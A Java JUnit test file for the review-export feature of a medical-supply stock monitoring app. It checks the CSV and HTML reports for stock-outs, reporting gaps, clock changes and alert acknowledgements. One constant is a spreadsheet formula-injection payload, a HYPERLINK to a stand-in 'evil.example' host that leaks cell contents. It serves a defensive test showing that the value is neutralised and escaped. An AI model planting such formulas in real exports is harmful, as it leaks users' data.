package fr.vigie.app;

import fr.vigie.adapter.dynamodb.DynamoFollowUps;
import fr.vigie.adapter.dynamodb.Tables;
import fr.vigie.adapter.retex.ReviewFiles;
import fr.vigie.domain.followup.AckAction;
import fr.vigie.domain.followup.Acknowledgement;
import fr.vigie.port.SeasonNotices;
import fr.vigie.testkit.DynamoDbLocalServer;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import java.util.UUID;
import fr.vigie.domain.AlertEvent;
import fr.vigie.domain.AlertLevel;
import fr.vigie.domain.DisruptionKind;
import fr.vigie.domain.DisruptionStatus;
import fr.vigie.domain.Facility;
import fr.vigie.domain.Reason;
import fr.vigie.domain.Season;
import fr.vigie.domain.SeriesKey;
import fr.vigie.domain.Snapshot;
import fr.vigie.domain.StaleDataEvent;
import fr.vigie.domain.SupplyDisruptionEvent;
import fr.vigie.domain.WatchlistEntry;
import fr.vigie.domain.retex.DeviceHistory;
import fr.vigie.port.SeasonArchive;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Consumer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The export use case on a small hand-made season, as the retex-export function would run it with its own files. */
class RetexExportTest {

    static final Season SEASON = new Season(2025);
    static final Instant DAY0 = Instant.parse("2025-11-01T05:00:00Z");
    /** A name a spreadsheet would run as a formula (issue 17). */
    static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Laboratoire X\")";
    static final WatchlistEntry FFP2 = SampleSeason.watchlist("season-a").stream()
            .filter(e -> e.deviceId().equals("FFP2")).findFirst().orElseThrow();

    /** A season in memory: CH-BRE-08 runs out on day 5 after an alert on day 2; LABO-X has no known region. */
    static class SmallSeason implements SeasonArchive {
        final List<Facility> facilities;

        SmallSeason(List<Facility> facilities) {
            this.facilities = facilities;
        }

        @Override
        public List<Facility> facilities() {
            return facilities;
        }

        @Override
        public List<DeviceHistory> watchlist() {
            return List.of(DeviceHistory.of(FFP2));
        }

        @Override
        public void snapshots(SeriesKey series, Instant from, Instant to, Consumer<Snapshot> sink) {
            long[] stock = series.facilityId().equals("CH-BRE-08") ? new long[]{100, 80, 60, 40, 20, 0, 0, 50} : new long[]{500, 490, 480};
            for (int day = 0; day < stock.length; day++) {
                sink.accept(new Snapshot(series.facilityId(), series.deviceId(), DAY0.plus(Duration.ofDays(day)), stock[day], 20L, null, null, null));
            }
        }

        @Override
        public List<AlertEvent> alertEvents(SeriesKey series, Instant from, Instant to) {
            if (!series.facilityId().equals("CH-BRE-08")) {
                return List.of();
            }
            Instant at = DAY0.plus(Duration.ofDays(2));
            return List.of(new AlertEvent(AlertEvent.alertId("CH-BRE-08", "FFP2", at), "CH-BRE-08", "FFP2", AlertLevel.CRITICAL, null,
                    at, 3, null, 60, 20, List.of(Reason.COVERAGE_BELOW_CRITICAL)));
        }

        @Override
        public List<SupplyDisruptionEvent> disruptionEvents(String deviceId, Instant from, Instant to) {
            return List.of(new SupplyDisruptionEvent("FFP2#2025-11-02", "FFP2", DisruptionStatus.OPEN, DAY0.plus(Duration.ofDays(2)),
                    DAY0.plus(Duration.ofDays(1)), List.of("CH-BRE-08", "LABO-X"), DisruptionKind.ALLOCATION, null, 0.5));
        }

        /** LABO-X fell silent after day 6 and came back on day 12. */
        @Override
        public List<StaleDataEvent> staleDataEvents(String facilityId, Instant from, Instant to) {
            if (!facilityId.equals("LABO-X")) {
                return List.of();
            }
            Instant last = DAY0.plus(Duration.ofDays(6));
            return List.of(new StaleDataEvent(facilityId, null, StaleDataEvent.Status.OPEN, last, last.plus(Duration.ofHours(37))),
                    new StaleDataEvent(facilityId, null, StaleDataEvent.Status.CLOSED, last, DAY0.plus(Duration.ofDays(12))));
        }
    }

    @Test
    void eachSilenceIsAGapWithItsLastSnapshotAndItsReturn() throws Exception {
        Map<String, ByteArrayOutputStream> files = export();
        String report = text(files, ReviewFiles.REPORT);
        assertTrue(report.contains("Interruptions de données") && report.contains("<td>07/11/2025</td><td>08/11/2025</td><td>13/11/2025</td><td class=\"n\">5</td>"),
                report.substring(Math.max(0, report.indexOf("interruptions") - 10)));
        Map<String, String> gap = row(text(files, RetexExport.SILENCES), "LABO-X");
        assertEquals("2025-11-07", gap.get("last_snapshot"));
        assertEquals("2025-11-08", gap.get("noticed_on"));
        assertEquals("2025-11-13", gap.get("back_on"));
        assertEquals("5", gap.get("days_without_data"));
        assertEquals("", gap.get("device_id"), "the whole facility");
    }

    @Test
    void everySeriesIsExportedWithItsAlertsDisruptionsAndRegion() throws Exception {
        Map<String, ByteArrayOutputStream> files = export();
        List<String> expected = new ArrayList<>(RetexExport.TABLES);
        expected.add(ReviewFiles.REPORT);
        expected.add(RetexExport.PROPOSED_WATCHLIST);
        assertEquals(new TreeSet<>(expected), files.keySet());
        Map<String, String> bre = row(text(files, "summary.csv"), "CH-BRE-08");
        assertEquals("\"53\"", bre.get("region"), "a region code stays text");
        assertEquals("Bretagne", bre.get("region_name"));
        assertEquals("2", bre.get("stockout_days"));
        assertEquals("1", bre.get("stockouts"));
        assertEquals("0", bre.get("stockouts_without_alert"));
        assertEquals("1", bre.get("alerts_critical"));
        assertEquals("0", bre.get("recoveries"));
        assertEquals("3", bre.get("stockout_leads_days"), "announced 3 days ahead");
        assertTrue(text(files, "summary-regions.csv").contains("\r\n;Région inconnue;FFP2;"), "a facility without region is counted apart");
        assertTrue(text(files, "alerts.csv").contains("\r\n2025-11-03 06:00:00;Europe/Paris;CH-BRE-08;;\"53\";Bretagne;FFP2;CRITICAL;"),
                "instants are local date-times a spreadsheet recognises: " + text(files, "alerts.csv"));
        assertTrue(text(files, "disruptions.csv").contains("\r\n2025-11-03 06:00:00;Europe/Paris;FFP2;FFP2#2025-11-02;OPEN;"
                + "2025-11-02 06:00:00;ALLOCATION;CH-BRE-08 LABO-X;;0,5\r\n"), text(files, "disruptions.csv"));
        assertTrue(text(files, "snapshots.csv").startsWith("\uFEFFlocal_time;time_zone;facility_id;device_id;on_hand;"));
        String report = text(files, "report.html");
        assertTrue(report.contains("<title>tension nationale du 3 nov. 2025"), "the disruption is shaded on the curves");
        assertTrue(report.contains("1 établissement(s) en rupture"), "stock-out days are marked");
        assertTrue(!report.contains("<script") && !report.contains("<link") && !report.contains("@import"), "the page is self-contained");
    }

    @Test
    void twoSnapshotsOfTheHourTheClocksGoBackAreTwoInstantsInTheExport() throws Exception {
        // an hourly feed: 00:30 and 01:30 UTC on 26 October 2025 both read 02:30 in Paris
        Instant first = Instant.parse("2025-10-26T00:30:00Z");
        SeasonArchive hourly = new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null))) {
            @Override
            public void snapshots(SeriesKey series, Instant from, Instant to, Consumer<Snapshot> sink) {
                for (int hour = 0; hour < 2; hour++) {
                    sink.accept(new Snapshot(series.facilityId(), series.deviceId(), first.plus(Duration.ofHours(hour)), 100 - hour,
                            1L, null, null, null));
                }
            }
        };
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        new RetexExport(hourly).export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())),
                (done, total) -> { });
        List<String> rows = text(files, RetexExport.SNAPSHOTS).lines().skip(1).toList();
        assertEquals(List.of("2025-10-26 02:30:00;Europe/Paris;CH-BRE-08;FFP2;100;1;;;;\"53\";Bretagne;2025-10-26 00:30:00",
                "2025-10-26 02:30:00;Europe/Paris;CH-BRE-08;FFP2;99;1;;;;\"53\";Bretagne;2025-10-26 01:30:00"), rows);
    }

    @Test
    void aHostileFacilityNameIsNeutralisedInTheCsvAndEscapedInThePage() throws Exception {
        Map<String, ByteArrayOutputStream> files = export();
        String summary = text(files, "summary.csv");
        assertTrue(summary.contains("LABO-X;\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1;\"\"Laboratoire X\"\")\";;"),
                "a hostile facility name is neutralised, not run: " + summary);
        assertTrue(text(files, "facilities.csv").contains("LABO-X;\"'=HYPERLINK("), text(files, "facilities.csv"));
        assertTrue(text(files, "report.html").contains("=HYPERLINK(&quot;http://evil.example/"), "escaped in the page");
    }

    @Test
    void aFacilityThatStoppedReportingIsSilentAndItsDaysAreUnknownNotFine() throws Exception {
        Map<String, ByteArrayOutputStream> files = export();
        // CH-BRE-08 reports from 1 to 8 November, LABO-X from 1 to 3: two missed days carry, the next three are unknown
        Map<String, String> labo = row(text(files, "summary.csv"), "LABO-X");
        assertEquals("2025-11-04", labo.get("silent_since"));
        assertEquals("3", labo.get("days_reported"));
        assertEquals("3", labo.get("days_unknown"));
        assertEquals("0,38", labo.get("completeness"));
        assertEquals("", row(text(files, "summary.csv"), "CH-BRE-08").get("silent_since"));
        String report = text(files, "report.html");
        assertTrue(report.contains("04/11/2025 (données inconnues depuis)"), "the report says since when it is silent");
        assertTrue(report.contains("établissement(s) sans relevé (inconnu)"), "unknown days are marked on the curves");
    }

    @Test
    void recommendationsHaveARowPerDeviceAndTheWhatIfItsGrid() throws Exception {
        Map<String, ByteArrayOutputStream> files = export();
        Map<String, String> ffp2 = row(text(files, "recommendations.csv"), "FFP2");
        assertEquals("14", ffp2.get("current_warning_days"));
        assertEquals("1", ffp2.get("stockouts"));
        assertTrue(List.of("KEEP", "CHANGE", "SUPPLY").contains(ffp2.get("action")), ffp2.toString());
        List<String> grid = text(files, "whatif.csv").lines().skip(1).toList();
        assertTrue(grid.size() >= 9, "a grid of thresholds around today's: " + grid);
        assertEquals(1, grid.stream().filter(l -> l.startsWith("FFP2;") && l.contains(";14;7;1;")).count(), "today's point is marked");
    }

    private static Map<String, ByteArrayOutputStream> export() throws Exception {
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        RetexExport.Result result = new RetexExport(new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null),
                new Facility("LABO-X", HOSTILE_NAME, null, null)))).export(SEASON,
                new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
        assertEquals(new RetexExport.Result(2, 1, 11, 1, 1), result);
        return files;
    }

    /** The row of a CSV whose first cell is {@code key}, by column name (cells as written, quotes kept). */
    static Map<String, String> row(String csv, String key) {
        List<String> lines = csv.replace("\uFEFF", "").lines().toList();
        String[] header = lines.get(0).split(";", -1);
        String line = lines.stream().filter(l -> l.startsWith(key + ";")).findFirst().orElseThrow(() -> new AssertionError(key + " in " + csv));
        List<String> cells = cells(line);
        Map<String, String> out = new LinkedHashMap<>();
        for (int i = 0; i < header.length; i++) {
            out.put(header[i], cells.get(i));
        }
        return out;
    }

    private static List<String> cells(String line) {
        List<String> out = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (char c : line.toCharArray()) {
            if (c == '"') {
                quoted = !quoted;
            }
            if (c == ';' && !quoted) {
                out.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        out.add(cell.toString());
        return out;
    }

    /** Issue 22: alerts.csv gives each alert's acknowledgement and the time it took, read from the alerts table (DynamoDB Local). */
    @Test
    void alertsCarryTheirTimeToAcknowledge() throws Exception {
        DynamoDbClient dynamo = DynamoDbLocalServer.get().client();
        String table = "retex-ack-" + UUID.randomUUID().toString().substring(0, 8);
        dynamo.createTable(Tables.alerts(table));
        DynamoFollowUps acks = new DynamoFollowUps(dynamo, table);
        Instant opened = DAY0.plus(Duration.ofDays(2));
        acks.record(new Acknowledgement(AlertEvent.alertId("CH-BRE-08", "FFP2", opened), "pharmacien", "facility",
                AckAction.URGENT_ORDER, null, opened.plus(Duration.ofMinutes(330))));
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        new RetexExport(new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null))), SeasonNotices.NONE, acks).export(SEASON,
                new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
        List<String> lines = text(files, "alerts.csv").replace("\uFEFF", "").lines().toList();
        assertTrue(lines.get(0).endsWith(";alert_id;acknowledged_at;hours_to_acknowledge;acknowledged_role;acknowledged_action"), lines.get(0));
        assertTrue(lines.get(1).endsWith(";5,5;facility;URGENT_ORDER"), "5 h 30 to acknowledge: " + lines.get(1));
    }

    @Test
    void aDatabaseWithoutRegistryWritesNothing() throws Exception {
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        RetexExport.Result result = new RetexExport(new SmallSeason(List.of()))
                .export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
        assertTrue(result.empty());
        assertEquals(Map.of(), files);
    }

    private static String text(Map<String, ByteArrayOutputStream> files, String name) {
        return files.get(name).toString(StandardCharsets.UTF_8);
    }
}
